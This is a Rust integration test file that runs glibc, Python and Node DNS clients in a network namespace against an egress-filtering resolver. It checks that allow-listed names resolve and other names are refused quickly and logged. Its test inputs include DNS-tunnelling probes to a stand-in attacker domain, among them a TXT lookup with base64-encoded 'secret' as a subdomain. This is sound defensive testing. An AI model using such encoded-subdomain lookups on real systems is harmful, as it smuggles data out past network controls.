//! Real clients against the resolver, in a network namespace of their own where it has port 53: glibc, Python and Node
//! must understand what it says, and must fail at once where it refuses.
//!
//! Needs root, `unshare`, `nsenter`, `ip`, `getent`, `python3` and `node`.
#![allow(clippy::disallowed_methods, clippy::unwrap_used, clippy::expect_used)]

#[path = "../../fuzz/dns.rs"]
mod checks;

use std::fs::File;
use std::io::{BufRead, BufReader};
use std::net::{Ipv4Addr, TcpListener, UdpSocket};
use std::os::fd::AsFd;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use latchgate::egress::LeafId;
use latchgate::egress::flow::FlowRecord;
use latchgate::egress::names::{Closed, DnsServer, Execution, Isolated, Limits, OpenNames, Reach, ReachError};
use latchgate::egress::profile::{DomainEntry, Profile};
use rustix::thread::{LinkNameSpaceType, move_into_link_name_space};

/// A refusal that takes longer looks like an outage: resolvers wait five seconds for a server that is silent.
const AT_ONCE: Duration = Duration::from_secs(4);

#[derive(Default)]
struct Told(Mutex<Vec<(Ipv4Addr, Vec<u16>)>>);

impl Reach for Told {
    fn reach(&self, _: LeafId, address: Ipv4Addr, ports: &[u16]) -> Result<(), ReachError> {
        self.0.lock().unwrap().push((address, ports.to_vec()));
        Ok(())
    }
}

/// A network and mount namespace in which the resolver is what `/etc/resolv.conf` says.
struct Namespace {
    holder: Child,
    _directory: tempfile::TempDir,
    resolv_conf: PathBuf,
    names: OpenNames,
    _server: DnsServer,
}

impl Namespace {
    async fn start() -> Self {
        let directory = tempfile::tempdir().unwrap();
        let resolv_conf = directory.path().join("resolv.conf");
        std::fs::write(&resolv_conf, "nameserver 127.0.0.1\n").unwrap();
        // The second address is for glibc: to AI_ADDRCONFIG a machine that has only 127.0.0.1 has no IPv4.
        let script = format!(
            "ip link set lo up && ip addr add 127.0.0.2/8 dev lo && mount --bind {} /etc/resolv.conf && echo ready && exec cat",
            resolv_conf.display()
        );
        let mut holder = Command::new("unshare")
            .args(["--net", "--mount", "sh", "-c", &script])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(holder.stdout.take().unwrap()).read_line(&mut line).unwrap();
        assert_eq!(line, "ready\n");

        // A thread that joins the namespace makes the sockets and is gone: no other of this process is in there.
        let namespace = File::open(format!("/proc/{}/ns/net", holder.id())).unwrap();
        let (udp, tcp) = std::thread::spawn(move || {
            move_into_link_name_space(namespace.as_fd(), Some(LinkNameSpaceType::Network)).unwrap();
            (UdpSocket::bind("127.0.0.1:53").unwrap(), TcpListener::bind("127.0.0.1:53").unwrap())
        })
        .join()
        .unwrap();

        let entry = |text: &str| serde_json::from_value::<DomainEntry>(text.into()).unwrap().compile().unwrap().0;
        let server = DnsServer::new(Limits::default(), Arc::new(Told::default()));
        let mut names = server.open(
            LeafId(1),
            Execution {
                execution_id: "e1".into(),
                action_id: "action".into(),
                principal: "agent".into(),
                workspace: "default".into(),
                profile: Arc::new(Profile::allowlist([entry("allowed.example")])),
            },
        );
        names.serve_isolated(vec![udp], &Isolated { attribution: None, netns: None }).unwrap();
        tcp.set_nonblocking(true).unwrap();
        let tcp = tokio::net::TcpListener::from_std(tcp).unwrap();
        let over_tcp = names.over_tcp();
        tokio::spawn(async move {
            while let Ok((stream, client)) = tcp.accept().await {
                let over_tcp = over_tcp.clone();
                tokio::spawn(async move { over_tcp.serve(stream, client).await });
            }
        });
        Self { holder, _directory: directory, resolv_conf, names, _server: server }
    }

    fn options(&self, options: &str) {
        std::fs::write(&self.resolv_conf, format!("nameserver 127.0.0.1\noptions {options}\n")).unwrap();
    }

    /// Runs a client; its exit code and what it printed, both outputs.
    async fn run(&self, argv: &[&str]) -> (i32, String, Duration) {
        let mut command = tokio::process::Command::new("nsenter");
        command.args(["--target", &self.holder.id().to_string(), "--net", "--mount"]).args(argv);
        let start = Instant::now();
        let output = command.kill_on_drop(true).output().await.unwrap();
        let text = [output.stdout, output.stderr].concat();
        (output.status.code().unwrap_or(-1), String::from_utf8_lossy(&text).into_owned(), start.elapsed())
    }

    async fn close(self) -> Closed {
        let Self { mut holder, names, .. } = self;
        let closed = names.close().await;
        // The end of its input ends `cat`, and with it the namespaces.
        drop(holder.stdin.take());
        holder.wait().unwrap();
        closed
    }
}

fn refusals<'a>(flows: &'a [FlowRecord], name: &str) -> Vec<&'a str> {
    flows.iter().filter(|flow| flow.name.as_deref() == Some(name)).map(|flow| flow.rule.as_str()).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn glibc() {
    let namespace = Namespace::start().await;
    for (number, options) in
        ["ndots:1", "edns0", "use-vc", "use-vc edns0", "single-request", "trust-ad edns0"].iter().enumerate()
    {
        namespace.options(options);
        let name = format!("www{number}.allowed.example");
        let stand_in = format!("198.18.0.{}", number + 1);
        // Both families at once, v4 alone, and again: one address.
        for database in ["ahosts", "ahostsv4", "hosts"] {
            let (code, text, took) = namespace.run(&["getent", database, &name]).await;
            assert_eq!(code, 0, "{options} {database}: {text}");
            assert!(text.starts_with(&format!("{stand_in} ")), "{options}: {text}");
            assert!(took < AT_ONCE, "{options}: {took:?}");
        }
        let (code, text, took) = namespace.run(&["getent", "ahosts", "tunnel.evil.example"]).await;
        assert_eq!((code, text.as_str()), (2, ""), "{options}");
        assert!(took < AT_ONCE, "{options}: {took:?}");
    }
    let closed = namespace.close().await;
    assert_eq!(refusals(&closed.flows, "tunnel.evil.example"), ["name_not_allowed"]);
    assert_eq!((closed.counts.malformed, closed.counts.dropped), (0, 0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn python() {
    let namespace = Namespace::start().await;
    let script = "
import socket
print(sorted({a[4][0] for a in socket.getaddrinfo('py.allowed.example', 443)}))
print(socket.gethostbyname('PY.Allowed.Example'))
for name in ('evil.example', 'allowed.example.evil.example'):
    try:
        print(socket.getaddrinfo(name, 443))
    except socket.gaierror as error:
        print('gaierror')
try:
    print(socket.getaddrinfo('py.allowed.example', 443, socket.AF_INET6))
except socket.gaierror as error:
    print(error.errno == socket.EAI_NODATA)
";
    let (code, text, took) = namespace.run(&["python3", "-c", script]).await;
    let expected = "['198.18.0.1']\n198.18.0.1\ngaierror\ngaierror\nTrue\n";
    assert_eq!((code, text.as_str()), (0, expected));
    assert!(took < AT_ONCE * 3, "{took:?}");
    let closed = namespace.close().await;
    assert_eq!(refusals(&closed.flows, "allowed.example.evil.example"), ["name_not_allowed"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn node() {
    let namespace = Namespace::start().await;
    // `lookup` is glibc's; `resolve…` is c-ares.
    let script = "
const dns = require('dns').promises;
const show = promise => promise.then(x => console.log(JSON.stringify(x)), e => console.log(e.code));
(async () => {
    await show(dns.lookup('node.allowed.example'));
    await show(dns.resolve4('node.allowed.example'));
    await show(dns.resolve6('node.allowed.example'));
    await show(dns.resolve4('evil.example'));
    await show(dns.resolveTxt('c2VjcmV0.evil.example'));
    await show(dns.resolveTxt('node.allowed.example'));
    await show(dns.reverse('198.18.0.1'));
})();
";
    let (code, text, took) = namespace.run(&["node", "-e", script]).await;
    let expected = [
        r#"{"address":"198.18.0.1","family":4}"#,
        r#"["198.18.0.1"]"#,
        "ENODATA",
        "EREFUSED",
        "EREFUSED",
        "EREFUSED",
        // What c-ares makes of a refusal here.
        "ENOTFOUND",
    ];
    assert_eq!((code, text.lines().collect::<Vec<_>>()), (0, expected.to_vec()));
    assert!(took < AT_ONCE * 3, "{took:?}");
    let closed = namespace.close().await;
    assert_eq!(refusals(&closed.flows, "c2vjcmv0.evil.example"), ["name_not_allowed"]);
    assert_eq!(refusals(&closed.flows, "node.allowed.example"), ["dns_type_not_allowed"]);
    assert_eq!(refusals(&closed.flows, "1.0.18.198.in-addr.arpa"), ["name_not_allowed"]);
    assert_eq!(closed.counts.malformed, 0);
}

/// Two executions, each in a namespace of its own with the same addresses in it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn namespaces_are_apart() {
    let first = Namespace::start().await;
    let second = Namespace::start().await;
    first.run(&["getent", "ahosts", "a.allowed.example"]).await;
    second.run(&["getent", "ahosts", "evil.example"]).await;
    let (first, second) = (first.close().await, second.close().await);
    assert!(first.flows.is_empty());
    assert_eq!(refusals(&second.flows, "evil.example"), ["name_not_allowed"]);
}

#[test]
fn corpus() {
    let directory = concat!(env!("CARGO_MANIFEST_DIR"), "/../fuzz/corpus/dns_message");
    let mut seen = 0;
    for file in std::fs::read_dir(directory).unwrap() {
        checks::dns_message(&std::fs::read(file.unwrap().path()).unwrap());
        seen += 1;
    }
    assert!(seen > 0);
}
